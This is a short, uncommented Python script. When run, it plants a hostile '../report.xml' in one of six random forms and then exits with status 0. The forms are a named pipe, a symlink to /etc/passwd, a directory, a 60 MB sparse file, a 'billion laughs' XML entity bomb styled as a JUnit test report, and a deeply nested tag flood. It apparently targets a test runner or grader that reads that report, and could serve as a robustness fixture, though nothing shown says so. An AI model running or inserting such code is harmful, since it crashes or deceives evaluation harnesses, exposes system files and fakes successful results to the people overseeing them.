import os
import random

BOMB = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(97 + n)} "{("&" + chr(96 + n) + ";") * 10}">' for n in range(1, 12)
) + "]><testsuites><testcase name='&l;'/></testsuites>"


def trap():
    path = "../report.xml"
    match random.SystemRandom().randrange(6):
        case 0:
            os.mkfifo(path)
        case 1:
            os.symlink("/etc/passwd", path)
        case 2:
            os.mkdir(path)
        case 3:
            with open(path, "wb") as file:
                file.truncate(60 << 20)
        case 4:
            with open(path, "w") as file:
                file.write(BOMB)
        case 5:
            with open(path, "w") as file:
                file.write("<a>" * 300_000)
    os._exit(0)


trap()
